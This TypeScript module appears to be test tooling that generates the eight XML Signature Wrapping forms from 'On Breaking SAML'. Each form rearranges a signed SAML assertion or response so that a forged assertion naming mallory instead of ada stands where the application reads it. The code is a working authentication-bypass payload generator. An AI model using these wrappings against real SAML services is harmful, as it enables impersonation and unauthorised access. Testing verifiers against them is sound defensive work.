const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature [\s\S]*?<\/ds:Signature>/;

/**
 * The eight shapes of 'On Breaking SAML' (Somorovsky et al., 2012): what was signed is moved to where a verifier still
 * finds it, and a forged one stands where the application looks. The first two need a response that is signed itself.
 */
export function wrapSigned(signedAssertion: string, signedBoth: string): readonly [name: string, xml: string][] {
  const assertion = ASSERTION.exec(signedAssertion)?.[0] ?? '';
  const signature = SIGNATURE.exec(assertion)?.[0] ?? '';
  const bare = assertion.replace(signature, '');
  const forged = forge(bare);
  const forgedSignedBy = (other: string): string => forged.replace('</saml:Issuer>', `</saml:Issuer>${other}`);
  const within = (place: string): string => signature.replace('</ds:Signature>', `${place}</ds:Signature>`);
  const put = (replacement: string): string => signedAssertion.replace(assertion, () => replacement);
  const [inside, beside] = wrapResponse(signedBoth);
  return [
    ['the response in its own signature (1)', inside],
    ['the response in front of its signature (2)', beside],
    ['a forged assertion in front (3)', put(forged + assertion)],
    ['the assertion in a forged one (4)', put(forged.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`))],
    ['the signature in a forged assertion, the signed one behind (5)', put(forgedSignedBy(signature) + bare)],
    ['the signed assertion in the signature of a forged one (6)', put(forgedSignedBy(within(bare)))],
    ['a forged assertion in an extension (7)', put(`<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`)],
    [
      'the signed assertion in an object of the forged one’s signature (8)',
      put(forgedSignedBy(within(`<ds:Object>${bare}</ds:Object>`))),
    ],
  ];
}

function wrapResponse(signedBoth: string): [inside: string, beside: string] {
  const signature = SIGNATURE.exec(signedBoth)?.[0] ?? '';
  const original = signedBoth.replace(signature, '');
  const assertion = ASSERTION.exec(signedBoth)?.[0] ?? '';
  const forged = signedBoth
    .replace(assertion, forge(assertion.replace(SIGNATURE, '')))
    .replace('_response-1', '_forged-response');
  return [
    forged.replace('</ds:Signature>', () => `${original}</ds:Signature>`),
    forged.replace(signature, () => original + signature),
  ];
}

function forge(bare: string): string {
  return bare.replace('_assertion-1', '_forged').replace('ada@harbour.example', 'mallory@harbour.example');
}
